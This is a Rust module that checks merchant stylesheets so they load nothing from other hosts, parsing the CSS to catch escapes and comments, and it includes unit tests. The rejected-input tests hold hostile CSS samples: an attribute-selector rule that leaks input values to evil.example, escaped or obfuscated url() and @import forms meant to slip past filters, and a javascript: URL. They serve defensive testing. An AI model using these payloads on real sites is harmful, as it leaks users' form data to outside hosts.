//! Whether a merchant's stylesheet stays at home: it may load what this host serves, and nothing from elsewhere. Read
//! by a parser, for a search is led astray by escapes and comments.

use cssparser::{ParseError, Parser, ParserInput, Token};

use crate::checks::is_local_path;

pub const BYTES_MAX: usize = 256 * 1024;
/// Brackets within brackets; browsers give up at about as many.
const DEPTH_MAX: usize = 64;
/// What takes an address as a string.
const WITH_ADDRESSES: [&str; 6] = ["url", "src", "image-set", "-webkit-image-set", "image", "cross-fade"];
/// What gives a string that nobody sees here.
const INDIRECT: [&str; 3] = ["var", "env", "attr"];
const IMAGES: [&str; 5] = ["png", "jpeg", "webp", "gif", "svg+xml"];

type Fault<'i> = ParseError<'i, &'static str>;

const IMPORT: &str = "must not have @import; put everything into this one file";
const ELSEWHERE: &str = "must load nothing from elsewhere: only paths on this host, such as url(\"/css/a.png\"), #ids \
     and images as data:";
const BROKEN: &str = "has a string or an address that does not end";
const DEEP: &str = "has too many brackets within brackets";
const HIDDEN: &str = "must not put together an address by var(), env() or attr()";

/// What is wrong with it, with the line.
pub fn check(css: &str) -> Result<(), String> {
    if css.len() > BYTES_MAX {
        return Err(format!("may have at most {BYTES_MAX} bytes"));
    }
    if css.contains('\0') {
        return Err("must be text".to_owned());
    }
    let mut input = ParserInput::new(css);
    walk(&mut Parser::new(&mut input), (0, false)).map_err(|error| {
        let what = match error.kind {
            cssparser::ParseErrorKind::Custom(what) => what,
            cssparser::ParseErrorKind::Basic(_) => BROKEN,
        };
        format!("{what} (line {})", error.location.line + 1)
    })
}

/// `takes_address`: within a function whose strings are addresses.
fn walk<'i>(parser: &mut Parser<'i, '_>, (depth, takes_address): (usize, bool)) -> Result<(), Fault<'i>> {
    loop {
        let Ok(token) = parser.next().cloned() else { return Ok(()) };
        let wrong = |parser: &Parser<'i, '_>, what| Err(parser.new_custom_error(what));
        let inside = match &token {
            Token::AtKeyword(name) if name.eq_ignore_ascii_case("import") => return wrong(parser, IMPORT),
            Token::UnquotedUrl(address) if !is_at_home(address) => return wrong(parser, ELSEWHERE),
            Token::QuotedString(address) if takes_address && !is_at_home(address) => return wrong(parser, ELSEWHERE),
            Token::BadUrl(_) | Token::BadString(_) => return wrong(parser, BROKEN),
            Token::Function(name) if takes_address && is_among(&INDIRECT, name) => return wrong(parser, HIDDEN),
            Token::Function(name) => Some(takes_address || is_among(&WITH_ADDRESSES, name)),
            Token::ParenthesisBlock | Token::SquareBracketBlock | Token::CurlyBracketBlock => Some(takes_address),
            _ => None,
        };
        match inside {
            Some(_) if depth >= DEPTH_MAX => return wrong(parser, DEEP),
            Some(takes_address) => parser.parse_nested_block(|inside| walk(inside, (depth + 1, takes_address)))?,
            None => {}
        }
    }
}

fn is_among(names: &[&str], name: &str) -> bool {
    names.iter().any(|known| known.eq_ignore_ascii_case(name))
}

fn is_at_home(address: &str) -> bool {
    let is_image =
        |data: &str| IMAGES.iter().any(|kind| data.strip_prefix(kind).is_some_and(|rest| rest.starts_with([',', ';'])));
    is_local_path(address) || address.starts_with('#') || address.strip_prefix("data:image/").is_some_and(is_image)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_sheet_that_stays_at_home_is_good() {
        for good in [
            "",
            ":root { --accent: #14675b; --note: \"https://only.text\"; }",
            "/* @import url(https://evil.example) */ a::after { content: \"url(https://evil.example/)\" }",
            "@media (width < 40rem) { .portal { background: url('/css/a.png') } }",
            "a { background: url(/css/a.png), url(data:image/png;base64,AAAA); mask: url(#id) }",
            "a { background: image-set(\"/a.png\" 1x, \"/b.png\" 2x); color: var(--x, red) }",
            "@font-face { font-family: A; src: url(\"/css/a.woff2\") format(\"woff2\") }",
            "a { color: red } } stray brackets ) ]",
        ] {
            assert_eq!(check(good), Ok(()), "{good}");
        }
    }

    #[test]
    fn whatever_loads_from_elsewhere_is_refused_however_it_is_written() {
        for bad in [
            "@import 'a.css';",
            "@IMPORT url(/css/a.css);",
            "@\\69mport '/a.css';",
            "a { background: url(https://evil.example/?x) }",
            "a { background: URL( 'http://evil.example' ) }",
            "a { background: u\\72l(https://evil.example) }",
            "a { background: url(//evil.example/x) }",
            "a { background: url(/\\\\evil.example/x) }",
            "a { background: url('/\\9 /evil.example/x') }",
            "a { background: url(relative.png) }",
            "a { background: url(javascript:alert(1)) }",
            "a { background: url(data:text/html,x) }",
            "a { background: image-set(\"https://evil.example\" 1x) }",
            "a { background: -webkit-image-set(url(https://evil.example) 1x) }",
            "a { background: image-set(var(--x) 1x) }",
            "a { background: src(\"https://evil.example\") }",
            "a { --x: url(https://evil.example) }",
            "@supports (background: url(https://evil.example)) { a { color: red } }",
            "@font-face { src: url(https://evil.example/a.woff2) }",
            "a { background: url(https://evil",
            "input[value^=\"1\"] { background: url(https://evil.example/1) }",
        ] {
            assert!(check(bad).is_err(), "{bad}");
        }
        assert!(check("a{}\nb { x: url(https://e.example) }").unwrap_err().ends_with("(line 2)"));
        assert!(check(&"(".repeat(100)).unwrap_err().starts_with("has too many brackets"));
        assert!(check(&" ".repeat(BYTES_MAX + 1)).unwrap_err().contains("262144 bytes"));
    }
}
